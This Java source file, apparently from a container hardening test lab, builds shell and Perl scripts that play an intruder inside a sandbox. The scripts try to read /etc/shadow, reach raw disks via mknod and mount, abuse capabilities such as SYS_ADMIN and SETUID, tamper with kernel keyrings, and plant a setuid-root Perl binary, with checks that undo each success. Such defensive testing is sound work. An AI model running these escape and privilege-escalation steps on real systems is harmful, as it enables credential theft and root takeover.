package onekernel.labs.hardening;

/**
 * What the robber tries, for the shop's own shell: a busybox and a Perl are at hand. Before each
 * way stands its name; whatever succeeded is put back, so that an attack may be repeated.
 */
final class Attacks {
  /** Printed where an attack got at something that has no words of its own. */
  static final String DONE = "DONE NONCE";

  private Attacks() {}

  /** Reads the superblock's magic number off the VM's disk; {@code NUMBERS} is its device. */
  static String onTheDisk(String numbers) {
    return """
    reads() { perl -e 'open D, "<", shift and seek D, 1080, 0 and read D, $m, 2; exit !($m eq "\\x53\\xef")' "$1"; }
    skip=
    echo '#through the files of vm, which are mounted in there'
    while read -r id parent device root at rest; do
      [ $at != / ] && [ -f $at/etc/shadow ] || continue
      skip="$skip -o -path $at"
      { read -r line <$at/etc/shadow; } 2>/dev/null && echo DONE NONCE
    done </proc/self/mountinfo
    echo '#by reading the device'
    find / \\( -path /proc -o -path /sys $skip \\) -prune -o -type b -print 2>/dev/null |
      while read -r disk; do reads $disk && echo DONE NONCE; done
    echo '#by making the device anew, with mknod'
    for folder in /tmp /dev /run /orders; do
      mknod $folder/NONCE b NUMBERS || continue
      reads $folder/NONCE && echo DONE NONCE
      rm -f $folder/NONCE
      break
    done
    echo '#by mounting it'
    mount -t ext4 /dev/vda /mnt && echo DONE NONCE && umount /mnt
    echo '#through the memory of a process outside (SYS_PTRACE)'
    for root in /proc/[0-9]*/root; do
      [ -f $root/etc/shadow ] && { true <>${root%root}mem; } && echo DONE NONCE && break
    done 2>/dev/null
    true\
    """
        .replace("NUMBERS", numbers.replace(':', ' '));
  }

  /** Reads the accountant's ledger. */
  static String onTheLedger() {
    return """
    it=/orders/ledger
    was=$(stat -c '%u:%g %a' $it)
    echo '#although the mode forbids it (DAC_OVERRIDE)'
    cat $it
    echo '#by changing its mode (FOWNER)'
    chmod 644 $it && { cat $it; chmod ${was#* } $it; }
    echo '#by taking it over (CHOWN)'
    chown 0 $it && { cat $it; chown ${was% *} $it; }
    perl -e '
      sub look { open L, "<", "/orders/ledger" and print <L> }
      print "#by taking off what is mounted over it (SYS_ADMIN)\\n"; $it = "/orders/ledger";
      syscall(272, 1 << 17) == 0 and syscall(166, $it, 2) == 0 and look; # unshare, umount
      print "#by becoming user 4321 (SETUID)\\n";
      $( = $) = 4321; $< = $> = 4321; look'
    FIND | while read -r program; do
      echo "#through $program, which makes a root of everybody"
      $program -e '
        sub look { open L, "<", "/orders/ledger" and print <L> }
        look; $< = $>; $< = $> = 4321; look'
    done
    true\
    """
        .replace("FIND", SET_USER_ID);
  }

  /** In the VM: whose the ledger is, and what it says. */
  static final String LEDGER_AFTERMATH =
      """
      stat -c %u /srv/shop/orders/ledger
      cat /srv/shop/orders/ledger\
      """;

  /** Becomes root in the shop, or at least reads root's file. */
  static String climbing() {
    return """
    echo '#by reading it'
    cat /safe
    FIND | while read -r program; do
      echo "#through $program"
      $program -e 'print "ROOT NONCE\\n" unless $>; open S, "<", "/safe" and print <S>'
    done
    true\
    """
        .replace("FIND", PROGRAMS);
  }

  private static final String FILES =
      "find / \\( -path /proc -o -path /sys $skip \\) -prune -o -type f ";

  private static final String SET_USER_ID = FILES + "-perm -4000 -print 2>/dev/null";

  /** Those that read a file when told so in Perl: a power may be written onto any of them. */
  private static final String PROGRAMS =
      FILES + "-perm -1 -size +99k ! -name '*.so.*' ! -name busybox -print 2>/dev/null";

  /** Changes the page, the programs or anything else that the shop is made of. */
  static String leavingSomething() {
    return """
    PATH=/bin:/usr/bin
    add() { echo "#$1: $2"; { true >>$2; } 2>/dev/null && echo DONE NONCE; }
    put() { echo "#$1: $2"; { true >$2 && rm $2; } 2>/dev/null && echo DONE NONCE; }
    all() {
      for file in /www/index.html /www/cgi-bin/order /bin/shop; do add "$1" $file; done
      for folder in /www /www/cgi-bin /bin /etc; do put "$1" $folder/NONCE; done
    }
    all 'by writing'
    modes() { stat -c '%a %n' /www /www/* /www/cgi-bin/*; }
    before=$(modes)
    chmod u+w /www /www/* /www/cgi-bin/*
    if [ "$before" != "$(modes)" ]; then
      all 'after a chmod'
      echo "$before" | while read -r mode file; do chmod $mode $file; done
    fi
    cp /www/index.html /www/NONCE && echo '#by putting another page in its place' &&
      mv -f /www/NONCE /www/index.html && echo DONE NONCE
    mount -o remount,rw / && all 'after a remount'
    FIND | while read -r program; do
      echo "#through $program: /www/index.html"
      $program -e '
        sub add { open F, ">>", "/www/index.html" and print "DONE NONCE\\n" }
        add; $ENV{PATH} = "/bin"; $< = $>; system "mount", "-o", "remount,rw", "/";
        print "#through $ARGV[0], after a remount\\n"; add' $program
    done
    true\
    """
        .replace("FIND", SET_USER_ID);
  }

  /** Reads the key of this name off the kernel's ring of root, and puts another one there. */
  static String onTheKeys(String name) {
    return """
    echo '#by reading it'
    perl -e '
      sub key { syscall 250, @_ }
      $kind = "user"; $name = "NAME"; $value = " " x 99;
      key(8, -4, -3);
      $id = key(10, -4, $kind, $name, 0);
      $id = syscall 249, $kind, $name, 0, -4 if $id < 0;
      if ($id < 0 and open K, "<", "/proc/keys") { /^(\\w+) .* user +$name: / and $id = hex $1 for <K> }
      $length = $id < 0 ? -1 : key(11, $id, $value, 99);
      print substr($value, 0, $length), "\\n" if $length > 0;
      $nothing = "";
      $id > 0 and key(2, $id, $nothing, 0) < 0 and $! == 22 and print "#by writing over it\\nDONE NONCE\\n";
      $gift = "gift-NONCE"; $value = "gift";
      syscall 248, $kind, $gift, $value, length $value, -4;
    '
    echo '#by a call that was refused'
    perl -e 'for (333, 425) { syscall $_, 0, 0, 0, 0, 0, 0; $! == 1 or $! == 38 or print "DONE NONCE\\n" }'
    true\
    """
        .replace("NAME", name);
  }

  /** In the VM: whether this key is still on root's ring, and the robber's, which is taken off. */
  static String keysAftermath(String name) {
    return """
    perl -e '
      $kind = "user"; $safe = "NAME"; $gift = "gift-NONCE";
      print "safe " if syscall(250, 10, -4, $kind, $safe, 0) >= 0;
      $id = syscall 250, 10, -4, $kind, $gift, 0;
      exit if $id < 0;
      print "gift";
      syscall 250, 9, $id, -4;
    '\
    """
        .replace("NAME", name);
  }

  /**
   * Reads what is root's and the accountant's, also as whoever inside is one of them outside, and
   * leaves a program that makes its owner of whoever starts it.
   */
  static String asRoot() {
    return """
    echo "#id $(id -u)"
    cat /orders/key /orders/ledger
    perl -e '
      open M, "<", "/proc/self/uid_map";
      for (<M>) {
        ($in, $out, $count) = split;
        for $who (0, 4321) {
          $is = $in + $who - $out;
          next if $who < $out or $who >= $out + $count or $is == 0;
          next if fork and wait;
          $( = $) = $is; $< = $> = $is;
          for ("/orders/key", "/orders/ledger") {
            open F, "<", $_ and print <F>;
          }
          exit;
        }
      }
    '
    cp /bin/perl /orders/gift-NONCE && chmod 4755 /orders/gift-NONCE
    true\
    """;
  }

  /**
   * In the VM: who owns the gift, or else who the shop's process is, the names that VM has for user
   * and group, and who is whoever starts the gift.
   */
  static final String GIFT_AFTERMATH =
      """
      gift=/srv/shop/orders/gift-NONCE
      owner=$(stat -c '%u %g' $gift) || {
        pid=$(ss -Hltnp "sport = :$port" | sed -n 's/.*pid=\\([0-9]*\\).*/\\1/p')
        owner=$(echo $(sed -n 's/^[UG]id:[^0-9]*\\([0-9]*\\).*/\\1/p' /proc/$pid/status))
      }
      name=$(getent passwd ${owner% *})
      echo "owner ${owner% *} ${name%%:*}"
      name=$(getent group ${owner#* })
      echo "group ${owner#* } ${name%%:*}"
      [ -e $gift ] || exit 0
      echo "starts $(/usr/bin/setpriv --reuid 65534 --regid 65534 --clear-groups $gift -e 'print $>')"
      rm -f $gift\
      """;

  /** Reads all three tills. */
  static String onTheMarket() {
    return """
    for till in shop/till baker/till bank; do
      echo "#$till"
      cat /market/$till
    done
    true\
    """;
  }

  /** In the VM: SELinux's mode, what it wrote down of this visit, and the labels of the tills. */
  static final String MARKET_AFTERMATH =
      """
      read -r mode </sys/fs/selinux/enforce
      echo "mode $mode"
      cd /srv/market
      labels=$(/usr/bin/stat -c 'label %C' shop/till baker/till bank) && echo "$labels" ||
        for till in shop/till baker/till bank; do echo "label $(/usr/bin/stat -c %C $till)"; done
      dmesg | sed -n '/robber NONCE/,$ { /avc:/p }'\
      """;
}
